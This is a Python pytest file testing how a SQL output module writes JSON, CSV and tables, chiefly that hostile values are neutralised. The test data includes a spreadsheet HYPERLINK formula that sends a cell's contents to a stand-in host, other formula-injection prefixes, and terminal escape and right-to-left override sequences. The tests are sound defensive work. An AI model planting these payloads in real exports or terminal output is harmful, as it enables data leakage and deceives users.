"""Answers are readable for people, exact for programs, and harmless to a terminal."""

from __future__ import annotations

import csv
import io
import json
import logging
from collections.abc import Callable, Sequence
from datetime import UTC, datetime
from decimal import Decimal
from typing import IO, Any

import pytest

from orchestration.commands.sql_output import (
    MAX_TABLE_ROWS,
    Answer,
    shorten,
    write_csv,
    write_json,
    write_raw_csv,
    write_table,
)
from orchestration.console import _Format
from orchestration.screen import say

TIME = datetime(2026, 11, 20, 1, 2, 3, 456000, tzinfo=UTC)


def printed(
    write: Callable[[Answer, IO[str]], None], columns: Sequence[str], *rows: Sequence[Any]
) -> str:
    out = io.StringIO()
    write(Answer(columns, iter(rows)), out)
    return out.getvalue()


def test_json_is_an_array_of_objects_with_iso_times() -> None:
    text = printed(
        write_json, ["a", "at", "v", "n"], [1, TIME, [0.5, float("nan")], None], ["ё", TIME, [], 2]
    )
    assert json.loads(text) == [
        {"a": 1, "at": "2026-11-20T01:02:03.456000+00:00", "v": [0.5, None], "n": None},
        {"a": "ё", "at": "2026-11-20T01:02:03.456000+00:00", "v": [], "n": 2},
    ]


def test_json_of_no_rows_is_an_empty_array() -> None:
    assert json.loads(printed(write_json, ["a"])) == []


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("http://h/?"&A1,"click")',
        *("=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1", '"=1"', "'=1", "＝1+1", "|calc"),
    ],
)
def test_csv_of_a_hostile_title_opens_as_text(title: str) -> None:
    text = printed(write_csv, ["title"], [title])
    (_, (cell,)) = csv.reader(io.StringIO(text))
    assert cell.startswith("'")
    assert cell[1:].strip() == title.replace("\r", "\\r").strip()
    (_, (raw,)) = csv.reader(io.StringIO(printed(write_raw_csv, ["title"], [title]), newline=""))
    assert raw == title


def test_csv_keeps_numbers_and_harmless_texts_as_they_are() -> None:
    row = [-1.5, -3, None, "a - b", "1-2", "ё = е", [-1.0], True, Decimal("-1.50")]
    text = printed(write_csv, list("abcdefghi"), row)
    assert text.splitlines()[1] == "-1.5,-3,,a - b,1-2,ё = е,[-1.0],True,-1.50"


def test_csv_can_not_drive_a_terminal() -> None:
    hostile = "\x1b]0;owned\x07\x1b[2J\u202egpj.exe\x9b31m"
    text = printed(write_csv, [hostile], [hostile], [f"of two\nlines {hostile}"])
    assert not set(text) & set("\x1b\x07\u202e\x9b")
    assert "\\x1b]0;owned" in text
    assert "of two\nlines" in text


def test_what_is_said_on_screen_can_not_drive_the_terminal(
    capsys: pytest.CaptureFixture[str],
) -> None:
    say("kadr: /films/\x1b[2J\x1b]0;owned\x07.mp4\n  is damaged")
    assert capsys.readouterr().out == "kadr: /films/\\x1b[2J\\x1b]0;owned\\x07.mp4\n  is damaged\n"


def test_a_step_logs_a_title_that_can_not_drive_the_terminal() -> None:
    record = logging.LogRecord("kadr", logging.INFO, "", 0, "read \x1b[2J\u202e", (), None)
    assert "\x1b" not in _Format("library").format(record)


def test_raw_csv_is_read_back_as_it_was() -> None:
    title = 'a "quoted", <b>title</b>\nof two lines; \0'
    text = printed(write_raw_csv, ["title", "vector", "missing"], [title, [1.0, 2.5], None])
    assert list(csv.reader(io.StringIO(text))) == [
        ["title", "vector", "missing"],
        [title, "[1.0, 2.5]", ""],
    ]


def test_table_shows_long_vectors_and_texts_shortened() -> None:
    assert shorten([0.1234] * 384) == "[0.12, …] (384)"
    assert shorten(["rain", "снег"]) == "[rain, снег]"
    assert len(shorten("x" * 1000)) == 100 and shorten("x" * 1000).endswith("x…")
    assert (shorten(None), shorten(TIME), shorten(True)) == ("", "2026-11-20 01:02:03", "yes")
    assert (shorten(1 / 3), shorten(12345678)) == ("0.333333", "12345678")


def test_title_can_not_drive_the_terminal() -> None:
    text = printed(write_table, ["title"], ["\x1b[31mred\x07 [bold]b[/bold]\r\n\u202eback"])
    assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text
    assert r"\x1b[31mred\x07 [bold]b[/bold]⏎\u202eback" in text


def test_table_counts_its_rows() -> None:
    assert printed(write_table, ["n"], [1]).endswith("1 row\n")
    assert printed(write_table, ["n"]).endswith("0 rows\n")
    many = printed(write_table, ["n"], *([n] for n in range(MAX_TABLE_ROWS + 1)))
    assert many.endswith(f"the first {MAX_TABLE_ROWS} rows; --csv gives all\n")


def test_row_of_too_many_columns_is_printed_a_line_a_column() -> None:
    names = [f"column_{n}" for n in range(30)]
    lines = printed(write_table, names, list(range(30))).splitlines()
    assert lines[0] == "-- row 1 --" and lines[30] == "column_29  29"


def test_no_line_of_a_table_is_wider_than_the_page() -> None:
    text = printed(write_table, ["a", "b"], ["long words " * 50, "y" * 300])
    assert max(map(len, text.splitlines())) <= 160


def test_table_takes_no_more_rows_than_it_shows() -> None:
    rows = iter([n] for n in range(10 * MAX_TABLE_ROWS))
    write_table(Answer(["n"], rows), io.StringIO())
    assert next(rows) == [MAX_TABLE_ROWS + 1]
